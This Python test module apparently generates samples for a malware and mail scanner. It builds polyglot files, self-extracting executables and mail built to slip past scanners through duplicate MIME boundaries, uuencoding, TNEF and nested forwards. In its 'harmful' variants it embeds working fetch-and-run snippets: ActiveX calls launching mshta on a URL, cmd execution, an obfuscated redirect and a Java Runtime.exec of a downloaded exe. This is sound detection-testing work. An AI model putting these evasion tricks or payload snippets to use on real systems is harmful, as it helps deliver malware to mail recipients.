"""Files that are two things at once, programs that unpack themselves, and mail with unusual packing."""

from __future__ import annotations

import base64
import email.policy
import uuid
from email.message import EmailMessage

from app.engine.model import Verdict
from app.sandbox import samples
from app.sandbox.compound_file import compound_file
from tests.corpus.archives import zipped
from tests.corpus.pages import chat, sign_in
from tests.corpus.payloads import payload, small
from tests.corpus.registry import technique
from tests.corpus.sample import Draw, File
from tests.corpus.wrapping import beside, disc, seven_zip
from tests.unit.engine import programs
from tests.unit.engine.programs import windows
from tests.unit.engine.test_archive_cab import cab
from tests.unit.engine.test_archive_rar import rar5
from tests.unit.engine.test_mhtml import archive
from tests.unit.engine.test_ole_storage import msi
from tests.unit.engine.test_tnef import tnef


@technique("polyglot.pdf_and_zip", most=Verdict.SUSPICIOUS)
def _pdf_zip(draw: Draw, harmful: bool) -> File:
    made = payload(draw, harmful)
    pdf, packed = samples.pdf(draw.prose(9)), zipped({made.name: made.content})
    return File(f"{draw.stem()}.pdf", pdf + packed if draw.rng.random() < 0.6 else packed + pdf)


@technique("polyglot.web_archive_in_pdf", most=Verdict.SUSPICIOUS)
def _pdf_mht(draw: Draw, harmful: bool) -> File:
    """A word processor reads the web archive behind what looks like a PDF."""
    code = f"new ActiveXObject(`WScript.Shell`).Run(`mshta {draw.url('hta')}`)"
    inner = f"<script>{code if harmful else ''}</script>"
    page = f"<html><body><p>{draw.prose(20)}</p>{inner}</body></html>".encode()
    mht = archive(("text/html", "file:///C:/a.htm", page))
    return File(f"{draw.stem()}.doc", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + mht)


@technique("polyglot.picture_and_page", most=Verdict.SUSPICIOUS)
def _gif_page(draw: Draw, harmful: bool) -> File:
    """Begins like a picture, is opened by the browser because of its name."""
    code = f"window.location=atob('{base64.b64encode(draw.url().encode()).decode()}')" if harmful else "var a=1"
    body = f"=1;/*{draw.word()}*/</style><html><body><script>{code}</script><p>{draw.prose(20)}</p></body></html>"
    return File(f"{draw.stem()}.{draw.one('html', 'htm')}", b"GIF89a" + body.encode())


@technique("polyglot.program_page", most=Verdict.RESTRICTED)
def _hta(draw: Draw, harmful: bool) -> File:
    """A shortcut or a program with a page for the program host behind it."""
    code = f"<script>new ActiveXObject('WScript.Shell').Run('cmd /c {draw.word()}.exe')</script>"
    front = windows({"KERNEL32.dll": ["ReadFile"]})
    return File(f"{draw.stem()}.{draw.one('exe', 'hta')}", front + (code.encode() if harmful else b""))


@technique("polyglot.disc_and_zip", most=Verdict.SUSPICIOUS)
def _disc_zip(draw: Draw, harmful: bool) -> File:
    made = payload(draw, harmful)
    image = disc(f"{draw.word()}.txt", draw.prose().encode())
    return File(f"{draw.stem()}.iso", image + zipped({made.name: made.content}))


@technique("polyglot.self_extracting", most=Verdict.RESTRICTED)
def _self_extracting(draw: Draw, harmful: bool) -> File:
    files = beside(draw, payload(draw, harmful))
    name = next(iter(files))
    settings = f';!@Install@!UTF-8!\nTitle="{draw.word()}"\nRunProgram="{name}"\n;!@InstallEnd@!'.encode()
    packed = draw.rng.choice(
        (
            lambda: zipped(files),
            lambda: settings + seven_zip(files),
            lambda: cab({key.replace("/", "\\"): data for key, data in files.items()}),
            lambda: rar5(files[name], name=name),
        )
    )()
    return File(f"{draw.stem()}.exe", windows({"KERNEL32.dll": ["ReadFile"]}) + packed)


@technique("mail.attachment")
def _mail(draw: Draw, harmful: bool) -> File:
    made = payload(draw, harmful)
    message = EmailMessage(policy=email.policy.SMTP)
    message["From"], message["To"] = f"{draw.word()}@{draw.word()}.example", "help@company.example"
    message["Subject"] = draw.stem()
    message.set_content(draw.prose(30))
    message.add_attachment(
        made.content, maintype="application", subtype=draw.one("octet-stream", "pdf", "zip"), filename=made.name
    )
    message.set_boundary(f"=={draw.word(4)}")
    return File(f"{draw.stem()}.eml", message.as_bytes())


@technique("mail.boundary_twice", most=Verdict.SUSPICIOUS)
def _twice(draw: Draw, harmful: bool) -> File:
    """Two boundaries in the header: mail programs take one, scanners the other."""
    made, first, second = payload(draw, harmful), draw.word(4), draw.word(5)
    head = f"From: a@{draw.word()}.example\r\nTo: b@company.example\r\nSubject: {draw.stem()}\r\nMIME-Version: 1.0\r\n"
    head += f'Content-Type: multipart/mixed; boundary="{first}"; boundary="{second}"\r\n\r\n'
    used = draw.one(first, second)
    body = f"--{used}\r\nContent-Type: text/plain\r\n\r\n{draw.prose(20)}\r\n--{used}\r\n"
    body += "Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n"
    name = made.name.encode("ascii", "replace").decode()
    body += f'Content-Disposition: attachment; filename="{name}"\r\n\r\n'
    end = f"\r\n--{used}--\r\n"
    return File(f"{draw.stem()}.eml", head.encode() + body.encode() + base64.encodebytes(made.content) + end.encode())


@technique("mail.uuencoded", most=Verdict.SUSPICIOUS)
def _uuencoded(draw: Draw, harmful: bool) -> File:
    import binascii

    made = payload(draw, harmful)
    rows = (binascii.b2a_uu(made.content[at : at + 45]) for at in range(0, len(made.content), 45))
    name = made.name.encode("ascii", "replace")
    head = f"From: a@{draw.word()}.example\r\nTo: b@company.example\r\nSubject: {draw.stem()}\r\n\r\n"
    head += f"{draw.prose(9)}\r\n\r\n"
    return File(f"{draw.stem()}.eml", head.encode() + b"begin 644 " + name + b"\n" + b"".join(rows) + b"`\nend\n")


@technique("mail.outlook_rich_text")
def _tnef(draw: Draw, harmful: bool) -> File:
    made = payload(draw, harmful)
    return File("winmail.dat", tnef(made.content, name=made.name, body=draw.prose(20).encode()))


@technique("mail.forwarded_mails")
def _forwarded(draw: Draw, harmful: bool) -> File:
    made = payload(draw, harmful)
    name, content = made.name, made.content
    for _ in range(draw.rng.randrange(2, 5)):
        content = samples.mail_with([(name, content)], subject=draw.stem(), body=draw.prose(9))
        name = f"{uuid.UUID(int=draw.rng.getrandbits(128))}.eml"
    return File(name, content)


@technique("polyglot.installer_and_java", most=Verdict.RESTRICTED)
def _msi_jar(draw: Draw, harmful: bool) -> File:
    """An installer whose signature stays good while a Java archive lies behind it."""
    front = msi({f"Binary.{draw.word()}": draw.noise(300, 900)}, [b"Property", draw.word().encode()])
    code = programs.jar({"Main.class": programs.java_class("java/lang/Runtime", "exec", draw.url("exe"))})
    return File(
        f"{draw.stem()}.{draw.one('msi', 'jar')}" if harmful else f"{draw.stem()}.msi",
        front + (code if harmful else b""),
    )


@technique("mail.outlook_message")
def _outlook(draw: Draw, harmful: bool) -> File:
    made = small(draw, harmful)
    wide = {"3707001F": made.name, "1000001F": draw.prose(20)}
    attached = {
        "__substg1.0_37010102": made.content,
        "__substg1.0_3707001F": wide["3707001F"].encode("utf-16-le"),
    }
    top = {"__properties_version1.0": bytes(32), "__substg1.0_1000001F": wide["1000001F"].encode("utf-16-le")}
    return File(f"{draw.stem()}.msg", compound_file(top, {"__attach_version1.0_#00000000": attached}))


@technique("mail.page_with_the_sign_in_attached")
def _attached_page(draw: Draw, harmful: bool) -> File:
    made = draw.rng.choice((sign_in, chat))(draw, harmful)
    content = samples.mail_with([(made.name, made.content)], subject=draw.stem(), body=draw.prose(20))
    return File(f"{draw.stem()}.eml", content)
